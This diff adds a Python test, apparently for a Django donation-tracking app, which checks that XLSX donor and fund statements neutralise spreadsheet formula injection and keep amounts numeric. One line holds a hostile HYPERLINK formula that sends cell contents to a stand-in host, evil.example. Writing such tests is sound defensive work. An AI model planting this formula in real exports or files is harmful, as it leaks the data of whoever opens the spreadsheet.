@@ -291,3 +291,24 @@ def test_no_installed_font_says_what_to_install(settings, monkeypatch):
     monkeypatch.setattr(pdf, "CANDIDATES", (("/nonexistent/font.ttc", 0),))
     with pytest.raises(pdf.FontMissing, match="fonts-wqy-zenhei"):
         pdf.font_spec()
+
+
+def test_a_donor_or_fund_name_that_is_a_formula_is_text_and_amounts_stay_numbers(client, tree, money):
+    hostile = '=HYPERLINK("http://evil.example/?"&B2,"x")'
+    f = fund(money.manager, tree.province, name="-1+基金")
+    d = donor(money.manager, tree.province, name=hostile, kind="person")
+    give(money.finance, f, d, "1200.50", on=dt.date(2025, 1, 5))
+
+    client.force_login(money.finance)
+    response = client.get(reverse("funds_io:donor_statement_xlsx", args=[d.pk]))
+
+    ws = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert [c.value for c in cells if c.data_type == "f"] == []
+    values = [c.value for c in cells]
+    assert "'" + hostile in values and "'-1+基金" in values
+    assert 1200.5 in values  # the amount is a number, not text
+
+    st = selectors.fund_statement(f, start=dt.date(2025, 1, 1), end=dt.date(2025, 12, 31))
+    ws = load_workbook(io.BytesIO(documents.statement_xlsx(st))).worksheets[0]
+    assert ws["A1"].value.startswith("'-1+基金") and ws["A1"].data_type == "s"
